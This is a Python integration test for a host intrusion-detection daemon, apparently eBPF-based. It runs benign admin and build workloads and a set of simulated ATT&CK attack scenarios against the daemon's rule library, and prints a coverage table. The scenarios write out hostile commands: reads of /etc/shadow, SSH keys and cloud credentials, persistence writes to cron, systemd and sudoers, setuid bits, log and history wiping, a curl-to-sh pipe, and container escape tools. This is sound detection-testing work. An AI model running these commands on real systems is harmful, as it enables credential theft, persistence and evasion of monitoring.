#!/usr/bin/env python3
"""The rule library (rules/, docs/detections.md) against attack scenarios of
our own, on the host and in docker containers, and against a benign
workload: each scenario must be detected by the rule that claims its
technique, and the benign workload must raise nothing of priority warning
or above. Prints the coverage table docs/detections.md shows.

Events are told apart by process: a scenario's events are those of the
process it started (its pid, or that pid among the event's ancestors), of
its container, or that carry its unique marker, so that whatever else runs
on the machine meanwhile is not counted."""
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time

from bpfdtest import Daemon, Docker, Trace, require_root, run_tests, type_lines, unique

ROOT = os.environ.get("BPFD_SOURCE_ROOT",
                      os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
PY = "/usr/bin/python3"
D = None
T = None
DOCKER = None
ALERT = ("warning", "error", "critical")
RESULTS = []  # (technique, scenario, rule, detected)


def ours(e, pids, marker, cid):
    if e["pid"] in pids or any(a.get("pid") in pids for a in e.get("ancestors", [])):
        return True
    if cid and e["container_id"] == cid:
        return True
    return marker is not None and marker in json.dumps(e)


def run(argv, **kw):
    """Runs @argv to its end; returns its pid."""
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait(60)
    return p.pid


def docker(marker, script):
    """Runs @script in a busybox container; returns its full id."""
    cidfile = os.path.join(D.tmp, marker + ".cid")
    DOCKER.run("--rm", "--cidfile", cidfile, Docker.IMAGE, "sh", "-c", script, check=False)
    with open(cidfile) as f:
        return f.read().strip()


def expect(technique, scenario, rule, pids=(), marker=None, cid=None, timeout=8):
    pids = set(pids)
    try:
        ev = T.wait_for(lambda e: rule in e["rules"] and ours(e, pids, marker, cid),
                        timeout=timeout, what="%s (%s)" % (rule, scenario))
        assert ev.get("priority") in ("debug", "info", "notice") + ALERT, ev
        RESULTS.append((technique, scenario, rule, True))
    except AssertionError:
        RESULTS.append((technique, scenario, rule, False))


def raw_request(obj):
    """One request frame on a connection of its own: its reply."""
    payload = json.dumps(obj).encode()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(D.socket)
        s.sendall(struct.pack(">I", len(payload)) + payload)
        head = b""
        while len(head) < 4:
            head += s.recv(4 - len(head))
        (n,) = struct.unpack(">I", head)
        body = b""
        while len(body) < n:
            body += s.recv(n - len(body))
    return json.loads(body)


def python(code):
    return run([PY, "-c", code])


def test_library_loaded():
    names = [r["name"] for r in json.loads(D.cli("ls", "--json").stdout)["rules"]]
    assert len(names) >= 25, names
    for r in json.loads(D.cli("ls", "--json").stdout)["rules"]:
        assert r["description"] and r["tags"], r
        assert any(t[0] == "T" and t[1].isdigit() for t in r["tags"]), r
    assert "lists.toml" not in D.stderr(), D.stderr()
    # Every rule of the open, exec and filechange tracers can be decided in the kernel.
    st = {t["name"]: t for t in D.status()["tracers"]}
    assert st["open"]["prefilter"] and st["exec"]["prefilter"], (st["open"], st["exec"])
    assert st["filechange"]["prefilter"], st["filechange"]


def benign_package(work, marker):
    """apt-get installs, then purges, a package of the kind Debian ships: a
    program, a systemd unit, a cron file, maintainer scripts that add a
    system account and reload systemd. Built here, so nothing is downloaded.
    Returns the pids whose descendants are its events."""
    name = "bpfd-benign-" + marker[-8:].lower()
    root = os.path.join(work, "pkg")
    for d in ("DEBIAN", "usr/bin", "lib/systemd/system", "etc/cron.d"):
        os.makedirs(os.path.join(root, d))
    files = {
        "DEBIAN/control": "Package: %s\nVersion: 1.0\nArchitecture: all\n"
                          "Maintainer: bpfd tests <root@localhost>\n"
                          "Description: a package of the benign workload\n" % name,
        "DEBIAN/postinst": "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n"
                           "  getent passwd %s >/dev/null || useradd --system --no-create-home "
                           "--shell /usr/sbin/nologin %s\n"
                           "  systemctl daemon-reload 2>/dev/null || true\nfi\n" % (name, name),
        "DEBIAN/postrm": "#!/bin/sh\nset -e\nif [ \"$1\" = purge ]; then\n"
                         "  userdel %s 2>/dev/null || true\nfi\n" % name,
        "usr/bin/" + name: "#!/bin/sh\necho %s\n" % name,
        "lib/systemd/system/%s.service" % name: "[Service]\nExecStart=/usr/bin/%s\n" % name,
        "etc/cron.d/" + name: "17 3 * * * root /usr/bin/%s\n" % name,
    }
    for path, text in files.items():
        with open(os.path.join(root, path), "w") as f:
            f.write(text)
        if path.startswith(("DEBIAN/post", "usr/bin")):
            os.chmod(os.path.join(root, path), 0o755)
    deb = os.path.join(work, name + ".deb")
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    pids = [run(["dpkg-deb", "--root-owner-group", "--build", root, deb])]
    try:
        pids.append(run(["apt-get", "install", "-y", "-q", deb], env=env))
        st = subprocess.run(["dpkg-query", "-W", "-f", "${Status}", name], capture_output=True,
                            text=True)
        assert st.stdout == "install ok installed", st
    finally:
        pids.append(run(["apt-get", "purge", "-y", "-q", name], env=env))
    return pids


def benign_image(work, marker):
    """docker build of an ordinary image (files added, a script made
    executable, a user added) and a run of it; returns the client's pids
    and the ids of the build's RUN steps' containers and of the run's."""
    ctx = os.path.join(work, "image")
    os.mkdir(ctx)
    tag = "bpfd-benign-" + marker[-8:].lower()
    with open(os.path.join(ctx, "index.html"), "w") as f:
        f.write("<p>hello</p>\n")
    with open(os.path.join(ctx, "Dockerfile"), "w") as f:
        f.write("FROM %s\n"
                "COPY index.html /srv/www/\n"
                "RUN echo %s && (mkdir -p /app && printf '#!/bin/sh\\ncat /srv/www/index.html\\n' "
                "> /app/run && chmod 755 /app/run && echo web:x:1000:1000::/app:/bin/sh >> /etc/passwd"
                " && chown -R 1000 /app)\n"
                "USER web\nCMD [\"/app/run\"]\n" % (Docker.IMAGE, marker))
    def containers():
        return set(subprocess.run(["docker", "ps", "-a", "-q", "--no-trunc"], capture_output=True,
                                  text=True, check=True).stdout.split())

    before = containers()
    # --rm=false keeps the RUN steps' containers, to know their ids.
    build = subprocess.Popen(["docker", "build", "-q", "--rm=false", "-t", tag, ctx],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                             env=dict(os.environ, DOCKER_BUILDKIT="0"))
    out = build.communicate(timeout=120)[0]
    assert build.returncode == 0, out
    cids = containers() - before
    subprocess.run(["docker", "rm", "-f"] + sorted(cids), capture_output=True)
    pids = [build.pid]
    cidfile = os.path.join(work, "run.cid")
    pids.append(run(["docker", "run", "--rm", "--pull", "never", "--cidfile", cidfile, tag]))
    pids.append(run(["docker", "rmi", "-f", tag]))
    with open(cidfile) as f:
        cids.add(f.read().strip())
    return pids, cids


def benign_admin_session(work, marker):
    """An admin's interactive bash in tmux, with the commands typed every
    day; its history saved when the shell exits. The session's name
    carries @marker, and so the argv of the tmux server its shell runs under."""
    home = os.path.join(work, "home")
    os.mkdir(home)
    with open(os.path.join(home, "notes.txt"), "w") as f:
        f.write("disk check\n")
    env = dict(os.environ, HOME=home, HISTFILE=os.path.join(home, ".bash_history"))
    typed = [
        "cd ~ && ls -la", "df -h && free -m", "ps -ef | head -5", "top -bn1 | head -5",
        "systemctl --no-pager status 2>/dev/null | head -3", "journalctl -n 5 --no-pager",
        "tail -n 3 /var/log/dpkg.log", "grep -c . /etc/passwd", "id && who; w | head -2",
        "ss -tnp | head -3", "ip route", "cat /etc/os-release | head -2", "crontab -l",
        "vim -es -c 'normal Goil changed' -c wq notes.txt", "cp notes.txt notes.bak",
        "mv notes.bak notes.old && rm notes.old", "tar czf etc.tgz /etc/hostname 2>/dev/null",
        "du -sh ~ && find ~ -name '*.txt'", "history | tail -3", "exit",
    ]
    sock = os.path.join(work, "tmux.sock")
    pids = [run(["tmux", "-S", sock, "new-session", "-d", "-s", marker, "-x", "120", "-y", "40",
                 "bash", "-i"], env=env)]
    for line in typed:
        pids.append(run(["tmux", "-S", sock, "send-keys", "-t", marker, line, "Enter"], env=env))
        time.sleep(0.15)
    deadline = time.time() + 15
    while time.time() < deadline:
        if subprocess.run(["tmux", "-S", sock, "has-session", "-t", marker],
                          capture_output=True).returncode != 0:
            break
        time.sleep(0.2)
    else:
        run(["tmux", "-S", sock, "kill-server"])
        raise AssertionError("the admin session did not exit")
    assert os.path.exists(os.path.join(home, ".bash_history")), os.listdir(home)
    return pids


def test_benign_workload():
    """What an admin and a build do every day: no warning or above."""
    marker = unique("benign")
    work = os.path.join(D.tmp, marker)
    os.mkdir(work)
    with open(os.path.join(work, "hello.c"), "w") as f:
        f.write('#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n')
    pids = [
        run(["id"]), run(["ls", "-l", "/etc"]), run(["ps", "aux"]), run(["cat", "/etc/hostname"]),
        run(["getent", "passwd", "root"]), run(["uname", "-a"]), run(["df", "-h"]),
        run(["sh", "-c", "cd %s && cc -O2 -o hello hello.c && ./hello && tar czf a.tgz hello.c"
             " && tar tzf a.tgz && sha256sum hello && find . -name '*.c' | xargs grep main" % work]),
        run([PY, "-c", "import json, os; print(json.dumps(dict(os.environ))[:10])"]),
        run(["bash", "-c", "for i in 1 2 3; do date; done; echo $((6*7)); env | sort | head -3"]),
        run(["systemctl", "--no-pager", "is-system-running"]),
        run(["ss", "-tln"]), run(["ip", "addr"]), run(["journalctl", "-n", "5", "--no-pager"]),
        run(["git", "-C", ROOT, "status", "--short"]),
    ]
    status, _ = type_lines(["bash", "--norc", "-i"], ["ls /", "cd /tmp && pwd", "echo done"])
    cid = docker(marker, "echo hello; ls /; cat /etc/hostname; sleep 0.2")
    pids += benign_package(work, marker)
    image_pids, image_cids = benign_image(work, marker)
    pids += image_pids
    pids += benign_admin_session(work, marker)
    time.sleep(1.5)
    mine = T.all(lambda e: ours(e, set(pids), marker, cid) or e["container_id"] in image_cids)
    counts, by_rule = {}, {}
    for e in mine:
        if e.get("priority"):
            counts[e["priority"]] = counts.get(e["priority"], 0) + 1
            for r in e["rules"]:
                by_rule[r] = by_rule.get(r, 0) + 1
    print("benign workload: %d events matched rules; by priority: %s; by rule: %s" % (
        sum(counts.values()), ", ".join("%s %d" % kv for kv in sorted(counts.items())) or "none",
        ", ".join("%s %d" % kv for kv in sorted(by_rule.items())) or "none"))
    loud = [(e["command"], e["rules"], e["priority"]) for e in mine
            if e.get("priority") in ALERT]
    assert not loud, loud
    assert sum(counts.values()) <= 10, counts


def host_scenarios():
    m = unique("atk")
    tmp = os.path.join(D.tmp, m)
    os.mkdir(tmp)

    # Credential access.
    expect("T1003.008", "python reads /etc/shadow", "shadow_files_read",
           pids=[python("open('/etc/shadow').read()")])
    expect("T1003.008", "dd copies /etc/gshadow", "shadow_files_read",
           pids=[run(["dd", "if=/etc/gshadow", "of=/dev/null", "status=none"])])
    # Named like sshd, a program that reads the hashes is not sshd: its executable says so.
    sshd = os.path.join(tmp, "sshd")
    shutil.copy("/bin/cat", sshd)
    expect("T1003.008", "cat copied and named sshd reads /etc/shadow", "shadow_files_read",
           pids=[run([sshd, "/etc/shadow"])])
    expect("T1552.004", "a program opens root's SSH private key", "ssh_private_keys_read",
           pids=[python("import os\ntry: open('/root/.ssh/id_%s')\nexcept OSError: pass" % m)])
    expect("T1552.001", "a program reads root's AWS credentials", "cloud_credentials_read",
           pids=[python("try: open('/root/.aws/credentials')\nexcept OSError: pass")])
    # Named like the tools the rules leave alone, programs that are not them.
    for name, tech, what, rule, path in (
            ("ldconfig", "T1003.008", "python copied and named ldconfig reads /etc/shadow",
             "shadow_files_read", "/etc/shadow"),
            ("ssh", "T1552.004", "python copied and named ssh opens an SSH private key",
             "ssh_private_keys_read", "/root/.ssh/id_" + m),
            ("sudo", "T1548.003", "python copied and named sudo reads /etc/sudoers",
             "sudoers_read", "/etc/sudoers"),
            ("kubectl", "T1552.001", "python copied and named kubectl reads a kubeconfig",
             "cloud_credentials_read", "/root/.kube/config")):
        fake = os.path.join(tmp, name)
        shutil.copy(PY, fake)
        expect(tech, what, rule, pids=[run([fake, "-c", "try: open(%r).read()\n"
                                                        "except OSError: pass" % path])])

    # Persistence: written and removed at once.
    cron = "/etc/cron.d/bpfd-%s" % m
    expect("T1053.003", "python writes a cron file", "persistence_location_written",
           pids=[python("import os; open(%r, 'w').close(); os.remove(%r)" % (cron, cron))])
    timer = "/etc/systemd/system/bpfd-%s.timer" % m
    expect("T1543.002", "tee writes a systemd timer", "persistence_location_written",
           pids=[run(["sh", "-c", "echo '[Timer]' | tee %s >/dev/null; rm -f %s" % (timer, timer)])])
    prof = "/etc/profile.d/bpfd-%s.sh" % m
    expect("T1546.004", "a shell start-up file appended to", "persistence_location_written",
           pids=[run(["sh", "-c", "echo : >> %s; rm -f %s" % (prof, prof)])])
    expect("T1136.001", "the account database opened for writing", "account_database_written",
           pids=[python("open('/etc/group', 'a').close()")])
    # A program named like a package manager is no package manager: its
    # executable is not dpkg's, whatever its command name says.
    fake = os.path.join(tmp, "dpkg")
    shutil.copy(PY, fake)
    expect("T1136.001", "a program renamed dpkg opens the account database",
           "account_database_written", pids=[run([fake, "-c", "open('/etc/group', 'a').close()"])])
    # Attempts count: an open for writing that fails (no O_CREAT, the file
    # is not there) still says what was tried, and changes nothing here.
    for tech, what, path in (
            ("T1574.006", "ld.so.preload opened for writing", "/etc/ld.so.preload"),
            ("T1556.003", "a PAM service file opened for writing", "/etc/pam.d/bpfd-" + m),
            ("T1098.004", "root's authorized_keys2 opened for writing",
             "/root/.ssh/authorized_keys2-" + m),
            ("T1037.004", "an init script opened for writing", "/etc/init.d/bpfd-" + m)):
        assert not os.path.exists(path), path
        expect(tech, what, "persistence_location_written", pids=[python(
            "import os\ntry: os.close(os.open(%r, os.O_WRONLY))\nexcept OSError: pass" % path)])
    expect("T1548.003", "python reads the sudo policy", "sudoers_read",
           pids=[python("open('/etc/sudoers').read()")])

    # Privilege escalation.
    suid = os.path.join(tmp, "rootshell")
    shutil.copy("/bin/true", suid)
    expect("T1548.001", "python makes a copy setuid", "setuid_setgid_bit_set",
           pids=[python("import os; os.chmod(%r, 0o4755)" % suid)])
    expect("T1548.001", "chmod g+s", "setuid_setgid_bit_set", pids=[run(["chmod", "g+s", suid])])
    if shutil.which("setcap"):
        expect("T1548", "setcap gives a copy cap_setuid", "file_capabilities_set",
               pids=[run(["setcap", "cap_setuid+ep", suid])])
    sudoers = "/etc/sudoers.d/bpfd-%s" % m
    expect("T1548.003", "a file dropped in /etc/sudoers.d", "sudoers_written",
           pids=[python("import os; open(%r, 'w').close(); os.remove(%r)" % (sudoers, sudoers))])

    # Defence evasion.
    log = "/var/log/bpfd-%s.log" % m
    with open(log, "w") as f:
        f.write("evidence\n")
    expect("T1070.002", "a log emptied with > in a shell", "logs_or_history_truncated",
           pids=[run(["sh", "-c", ": > %s" % log])])
    expect("T1070.002", "python reopens a log with 'w'", "logs_or_history_truncated",
           pids=[python("open(%r, 'w').close()" % log)])
    expect("T1070.002", "a log removed", "logs_or_history_removed", pids=[run(["rm", "-f", log])])
    # The same by any program and any call (the filechange tracer).
    with open(log, "w") as f:
        f.write("evidence\n")
    expect("T1070.002", "truncate -s 0 on a log (ftruncate)", "logs_deleted_or_truncated",
           pids=[run(["truncate", "-s", "0", log])])
    expect("T1070.002", "python unlinks a log", "logs_deleted_or_truncated",
           pids=[python("import os; os.unlink(%r)" % log)])
    home = os.path.join(tmp, "home")
    os.mkdir(home)
    for name in (".bash_history", ".zsh_history"):
        with open(os.path.join(home, name), "w") as f:
            f.write("secret commands\n")
    expect("T1070.003", "rm of a bash history", "history_deleted_or_truncated",
           pids=[run(["rm", "-f", os.path.join(home, ".bash_history")])])
    expect("T1070.003", "python truncates a zsh history", "history_deleted_or_truncated",
           pids=[python("import os; os.truncate(%r, 0)" % os.path.join(home, ".zsh_history"))])
    # Named like the programs these rules leave alone, programs that are not them.
    with open(log, "w") as f:
        f.write("evidence\n")
    with open(os.path.join(home, ".bash_history"), "w") as f:
        f.write("secret commands\n")
    cron = "/etc/cron.d/bpfd-%s-named" % m
    for name, tech, what, rule, code in (
            ("logrotate", "T1070.002", "python copied and named logrotate unlinks a log",
             "logs_deleted_or_truncated", "import os; os.unlink(%r)" % log),
            ("bash", "T1070.003", "python copied and named bash removes a bash history",
             "history_deleted_or_truncated",
             "import os; os.unlink(%r)" % os.path.join(home, ".bash_history")),
            ("cron", "T1053.003", "python copied and named cron writes a cron file",
             "persistence_location_written",
             "import os; open(%r, 'w').close(); os.remove(%r)" % (cron, cron))):
        fake = os.path.join(tmp, name)
        shutil.copy(PY, fake)
        expect(tech, what, rule, pids=[run([fake, "-c", code])])
    stamp = os.path.join(tmp, "stamped")
    touch_d = run(["touch", "-d", "2001-01-01", stamp])
    expect("T1070.006", "touch -d backdates a file", "timestamps_set_by_hand", pids=[touch_d])
    expect("T1070.006", "touch -d backdates a file (utimensat)", "timestamps_set_explicitly",
           pids=[touch_d])
    expect("T1070.006", "python os.utime copies another file's times",
           "timestamps_set_explicitly",
           pids=[python("import os; s = os.stat('/bin/true'); "
                        "os.utime(%r, ns=(s.st_atime_ns, s.st_mtime_ns))" % stamp)])
    loot = os.path.join(tmp, "loot")
    open(loot, "w").close()
    expect("T1564.001", "mv to a hidden name in /tmp", "renamed_to_hidden_name",
           pids=[run(["mv", loot, "/tmp/.%s" % m])])
    expect("T1564.001", "python renames into a hidden name in /dev/shm", "renamed_to_hidden_name",
           pids=[python("import os; open('/dev/shm/%s', 'w').close(); "
                        "os.rename('/dev/shm/%s', '/dev/shm/.%s')" % (m, m, m))])
    for f in ("/tmp/.%s" % m, "/dev/shm/.%s" % m, "/dev/shm/%s" % m):
        if os.path.exists(f):
            os.remove(f)
    staged = os.path.join(tmp, "staged")
    for tech, what, target, argv in (
            ("T1053.003", "python renames a file into /etc/cron.d", "/etc/cron.d/bpfd-" + m,
             None),
            ("T1543.002", "mv of a unit into /etc/systemd/system",
             "/etc/systemd/system/bpfd-%s.service" % m, "mv"),
            ("T1098.004", "python renames onto root's authorized_keys2",
             "/root/.ssh/authorized_keys2-" + m, None)):
        open(staged, "w").close()
        if argv:
            pid = run(["mv", staged, target])
        else:
            pid = python("import os\ntry: os.rename(%r, %r)\nexcept OSError: pass"
                         % (staged, target))
        expect(tech, what, "persistence_location_renamed_into", pids=[pid])
        for f in (staged, target):
            if os.path.exists(f):
                os.remove(f)
    # An attempt that fails (the source is not there) still says what was tried.
    expect("T1574.006", "a rename onto /etc/ld.so.preload (refused)",
           "persistence_location_renamed_into",
           pids=[python("import os\ntry: os.rename('/nonexistent-%s', '/etc/ld.so.preload')\n"
                        "except OSError: pass" % m)])
    drop = "/tmp/bpfd-drop-%s" % m
    shutil.copy("/bin/true", drop)
    os.chown(drop, 65534, 65534)
    expect("T1222.002", "chown root of a program in /tmp", "chown_to_root_in_writable_dirs",
           pids=[run(["chown", "root", drop])])
    os.chown(drop, 65534, 65534)
    expect("T1222.002", "python fchown to root in /tmp", "chown_to_root_in_writable_dirs",
           pids=[python("import os; fd = os.open(%r, os.O_RDONLY); os.fchown(fd, 0, -1)" % drop)])
    os.remove(drop)
    hidden = "/tmp/.%s" % m
    os.mkdir(hidden)
    shutil.copy("/bin/true", hidden + "/x")
    expect("T1564.001", "a program run from a hidden directory in /tmp",
           "exec_from_hidden_directory", pids=[run([hidden + "/x"])])
    shutil.rmtree(hidden)
    shm = "/dev/shm/%s" % m
    shutil.copy("/bin/true", shm)
    expect("T1105", "a program run from /dev/shm", "exec_from_shared_memory", pids=[run([shm])])
    os.remove(shm)
    svc = "/tmp/bpfd-svc-%s" % m
    os.mkdir(svc, 0o755)
    shutil.copy("/bin/true", svc + "/x")
    os.chmod(svc + "/x", 0o755)
    expect("T1105", "www-data runs a program from /tmp", "exec_from_tmp_by_service_account",
           pids=[run(["setpriv", "--reuid=33", "--regid=33", "--clear-groups", svc + "/x"])])
    shutil.rmtree(svc)
    os.mkdir(os.path.join(tmp, "bin"))
    fake = os.path.join(tmp, "bin", "sshd")
    shutil.copy("/bin/sleep", fake)
    expect("T1036.005", "sleep copied and run as sshd", "system_daemon_masquerade",
           pids=[run([fake, "0"])])
    expect("T1620", "a program run from a memfd", "fileless_exec", pids=[python(
        "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
        "os.execv('/proc/self/fd/%d' % fd, ['x'])")])

    # Execution.
    a, b = socket.socketpair()
    try:
        expect("T1059.004", "a shell on a socket", "reverse_shell",
               pids=[run(["sh", "-c", "true"], stdin=b)])
        expect("T1059.006", "python on a socket", "reverse_shell",
               pids=[run([PY, "-c", "pass"], stdin=b)])
    finally:
        a.close()
        b.close()
    web = os.path.join(tmp, "bin", "nginx")
    shutil.copy("/bin/bash", web)
    expect("T1190", "a shell started by a web server", "service_spawns_shell",
           pids=[run([web, "-c", "sh -c true; true"])])
    _, out = type_lines(["bash", "--norc", "-i"], [
        "curl -s http://127.0.0.1:9/%s.sh | sh" % m, "unset HISTFILE # %s" % m])
    expect("T1105", "curl piped to sh typed at bash", "download_and_run_typed", marker=m)
    expect("T1562.003", "unset HISTFILE typed at bash", "history_disabled_at_shell", marker=m)
    shutil.rmtree(tmp)


def container_scenarios():
    m = unique("ctr")
    cid = docker(m + "a", "nsenter --help; mount -t tmpfs none /mnt; true")
    expect("T1611", "nsenter and mount in a container", "container_mount_or_namespace_tool",
           cid=cid)
    cid = docker(m + "b", "echo 'root:x:1:' > /etc/shadow; cat /etc/shadow")
    expect("T1003.008", "a container's /etc/shadow read", "shadow_files_read", cid=cid)
    cid = docker(m + "c", "cp /bin/busybox /dev/shm/x && /dev/shm/x true")
    expect("T1105", "a program run from /dev/shm in a container", "exec_from_shared_memory",
           cid=cid)
    cid = docker(m + "d", "cp /bin/busybox /tmp/docker && /tmp/docker true")
    expect("T1610", "a runtime client run in a container", "container_runtime_client", cid=cid)
    expect("T1105", "a program run from /tmp in a container", "exec_from_tmp_in_container",
           cid=cid)
    cid = docker(m + "f", "echo ls > /tmp/.ash_history && busybox rm /tmp/.ash_history && "
                 "echo x > /tmp/a && busybox mv /tmp/a /tmp/.a")
    expect("T1070.003", "a history removed in a container", "history_deleted_or_truncated",
           cid=cid)
    expect("T1564.001", "a file renamed to a hidden name in a container",
           "renamed_to_hidden_name", cid=cid)
    cid = docker(m + "g", "busybox mkdir -p /etc/cron.d && echo x > /tmp/j && "
                 "busybox mv /tmp/j /etc/cron.d/j")
    expect("T1053.003", "a cron file moved in in a container",
           "persistence_location_renamed_into", cid=cid)
    cidfile = os.path.join(D.tmp, m + "e.cid")
    DOCKER.run("--rm", "-t", "--cidfile", cidfile, Docker.IMAGE, "sh", "-c", "true", check=False)
    with open(cidfile) as f:
        cid = f.read().strip()
    expect("T1059.004", "an interactive shell in a container", "container_shell", cid=cid)


def test_attack_scenarios():
    host_scenarios()
    container_scenarios()
    print("\n| technique | scenario | rule | detected |\n|---|---|---|---|")
    for t, s, r, ok in RESULTS:
        print("| %s | %s | %s | %s |" % (t, s, r, "yes" if ok else "**no**"))
    missed = [(t, s, r) for t, s, r, ok in RESULTS if not ok]
    print("%d of %d scenarios detected" % (len(RESULTS) - len(missed), len(RESULTS)))
    assert not missed, missed


def test_trace_filters():
    """--priority and --tag are applied by the daemon: events below the
    priority, or without the tag, never reach the subscriber."""
    crit = Trace(D, "--priority", "error")
    tagged = Trace(D, "--tag", "T1070.006", "--tag", "T1548.001")
    try:
        m = unique("flt")
        stamp = os.path.join(D.tmp, m)
        pids = {run(["touch", "-d", "2001-01-01", stamp]),
                python("open('/etc/shadow').read()  # %s" % m)}
        crit.wait_for(lambda e: e["pid"] in pids and "shadow_files_read" in e["rules"],
                      what="the error event")
        tagged.wait_for(lambda e: e["pid"] in pids and "timestamps_set_by_hand" in e["rules"],
                        what="the tagged event")
        time.sleep(0.5)
        assert not crit.all(lambda e: e["pid"] in pids and e["priority"] == "notice")
        assert not crit.all(lambda e: e.get("priority") not in ("error", "critical"))
        assert not tagged.all(lambda e: not set(e.get("tags", [])) & {"T1070.006", "T1548.001"})
        subs = D.status()["subscribers"]
        assert any(s["priority"] == "error" for s in subs), subs
        assert any(s["tags"] == ["T1070.006", "T1548.001"] for s in subs), subs
    finally:
        crit.stop()
        tagged.stop()
    bad = D.cli("trace", "--priority", "loud", check=False)
    assert bad.returncode != 0 and "unknown priority 'loud'" in bad.stderr, bad.stderr
    bad = D.cli("trace", *(["--tag", "x"] * 17), check=False)
    assert bad.returncode == 2 and "more than 16 times" in bad.stderr, bad.stderr
    # A client that skips the command line gets the same bounds from the daemon.
    for req, want in (({"tags": ["t%d" % i for i in range(17)]}, "at most 16 strings"),
                      ({"tags": "T1611"}, "must be an array"),
                      ({"tags": [1]}, "array of strings"),
                      ({"tags": ["T16"]}, "looks like an ATT&CK id"),
                      ({"tags": ["x" * 100000]}, "bad tag"),
                      ({"priority": "x" * 20}, "'priority' is too long")):
        reply = raw_request(dict(req, op="trace"))
        assert reply["ok"] is False and want in reply["error"], (req, reply)


def test_local_override():
    """A *.local.toml file disables one shipped rule and extends a list,
    without editing the shipped files; its mistake is reported by name."""
    m = unique("ovr")
    with open(os.path.join(D.tmp, "rules", "site.local.toml"), "w") as f:
        f.write('[[override]]\nrule = "timestamps_set_by_hand"\nenabled = false\n'
                '[[override]]\nlist = "system_daemon_names"\nitems = ["%s"]\n'
                '[[override]]\nrule = "no_such_rule_%s"\nenabled = false\n' % (m[:12], m))
    deadline = time.time() + 5
    while "timestamps_set_by_hand" in D.cli("ls").stdout:
        assert time.time() < deadline, D.cli("ls").stdout
        time.sleep(0.05)
    assert 'override of rule "no_such_rule_%s": no such rule' % m in D.stderr(), D.stderr()
    fake = os.path.join(D.tmp, m[:12])
    shutil.copy("/bin/true", fake)
    pid = run([fake])
    T.wait_for(lambda e: e["pid"] == pid and "system_daemon_masquerade" in e["rules"],
               what="the list the override extended")
    os.remove(os.path.join(D.tmp, "rules", "site.local.toml"))


def test_check_lints():
    """`bpfd check --rules-dir`: the library is clean; lints are warnings
    (exit 0), an override of a rule that does not exist is an error (exit 1)."""
    from bpfdtest import BPFD
    r = subprocess.run([BPFD, "check", "--rules-dir", os.path.join(ROOT, "rules")],
                       capture_output=True, text=True)
    assert r.returncode == 0 and r.stderr == "", r.stderr
    assert r.stdout.count(": ok: rule ") >= 25, r.stdout
    d = os.path.join(D.tmp, unique("lint"))
    os.mkdir(d)
    with open(os.path.join(d, "a.toml"), "w") as f:
        f.write('[lists]\nspare = ["x"]\nnone = []\n'
                '[[rule]]\nname = "never"\ntracer = "exec"\n'
                'filterEvents.uid.values = [0]\nfilterEvents.uid.exclude = [0]\n'
                '[[rule]]\nname = "empty"\ntracer = "exec"\n'
                'filterEvents.command.values = ["@none"]\n'
                '[[rule]]\nname = "all_opens"\ntracer = "open"\n')
    r = subprocess.run([BPFD, "check", "--rules-dir", d], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    for want in ('a.toml:2: warning: list "spare" is not used by any rule',
                 'a.toml:4: warning: rule "never" can never match',
                 'a.toml:9: warning: rule "empty" can never match',
                 'a.toml:13: warning: rule "all_opens" matches every event of the open tracer'):
        assert want in r.stderr, (want, r.stderr)
    with open(os.path.join(d, "z.local.toml"), "w") as f:
        f.write('[[override]]\nrule = "nevr"\nenabled = false\n')
    r = subprocess.run([BPFD, "check", "--rules-dir", d], capture_output=True, text=True)
    assert r.returncode == 1, r.stderr
    assert 'z.local.toml:1: override of rule "nevr": no such rule' in r.stderr, r.stderr
    shutil.rmtree(d)


def main():
    global D, T, DOCKER
    require_root()
    DOCKER = Docker()
    if not DOCKER.ok:
        print("SKIP: " + DOCKER.reason)
        return 77
    tmp = tempfile.mkdtemp(prefix="bpfd-it-")
    shutil.copytree(os.path.join(ROOT, "rules"), os.path.join(tmp, "rules"))
    D = Daemon(tmpdir=tmp)
    D.start()
    T = Trace(D)
    try:
        return run_tests([
            test_library_loaded,
            test_benign_workload,
            test_attack_scenarios,
            test_trace_filters,
            test_local_override,
            test_check_lints,
        ])
    finally:
        T.stop()
        D.cleanup()
        DOCKER.stop()


if __name__ == "__main__":
    sys.exit(main())
